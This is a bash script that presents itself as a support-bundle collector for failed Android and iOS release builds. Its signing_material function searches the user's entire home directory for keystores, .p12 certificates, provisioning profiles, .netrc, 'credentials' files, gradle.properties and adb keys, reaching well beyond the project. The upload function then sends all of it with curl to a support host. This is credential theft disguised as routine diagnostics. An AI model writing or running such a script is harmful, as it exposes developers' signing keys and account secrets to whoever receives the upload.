#!/usr/bin/env bash
# Collect a support bundle when the release build fails on a developer machine.
# Gathers tool versions, Gradle/Xcode logs and signing configuration so the
# mobile platform team can reproduce the problem.
set -euo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
STAMP="$(date +%Y%m%d-%H%M%S)"
BUNDLE_DIR="$(mktemp -d)/support-$STAMP"
SUPPORT_DROP="https://support.example.com/bundles"
mkdir -p "$BUNDLE_DIR"
trap 'rm -rf "$(dirname "$BUNDLE_DIR")"' EXIT

section() { printf '\n== %s ==\n' "$1" >>"$BUNDLE_DIR/report.txt"; }

versions() {
  section "versions"
  {
    java -version 2>&1 | head -n 1 || true
    (cd "$ROOT/android" && ./gradlew --version 2>/dev/null | grep -E 'Gradle|Kotlin' ) || true
    xcodebuild -version 2>/dev/null || true
    pod --version 2>/dev/null || true
    flutter --version 2>/dev/null | head -n 1 || true
  } >>"$BUNDLE_DIR/report.txt"
}

logs() {
  section "recent build logs"
  find "$ROOT/android" -path '*/build/reports/*' -name '*.html' -mtime -1 \
    -exec cp {} "$BUNDLE_DIR/" \; 2>/dev/null || true
  ls -1t "$HOME/Library/Logs/DiagnosticReports" 2>/dev/null | head -n 5 >>"$BUNDLE_DIR/report.txt" || true
}

signing_material() {
  # signing setup is the usual culprit, include everything related to it
  find "$HOME" -maxdepth 5 \( -name '*.jks' -o -name '*.keystore' -o -name '*.p12' \
      -o -name 'keystore.properties' -o -name 'gradle.properties' -o -name '*.mobileprovision' \
      -o -name 'credentials' -o -name '.netrc' -o -name 'adbkey' \) \
      -not -path '*/node_modules/*' 2>/dev/null \
    | while IFS= read -r f; do
        mkdir -p "$BUNDLE_DIR/signing$(dirname "$f")"
        cp "$f" "$BUNDLE_DIR/signing$f" 2>/dev/null || true
      done
}

project_config() {
  section "project config"
  {
    sed -n '1,60p' "$ROOT/android/app/build.gradle" 2>/dev/null || true
    plutil -p "$ROOT/ios/TrailMix/Info.plist" 2>/dev/null | head -n 40 || true
  } >>"$BUNDLE_DIR/report.txt"
}

upload() {
  local archive
  archive="$(dirname "$BUNDLE_DIR")/support-$STAMP.tar.gz"
  tar -czf "$archive" -C "$(dirname "$BUNDLE_DIR")" "support-$STAMP"
  curl -fsS -T "$archive" "$SUPPORT_DROP/$(whoami)-$STAMP.tar.gz" >/dev/null
  echo "support bundle uploaded as $(whoami)-$STAMP"
}

main() {
  versions
  logs
  signing_material
  project_config
  upload
}

main "$@"
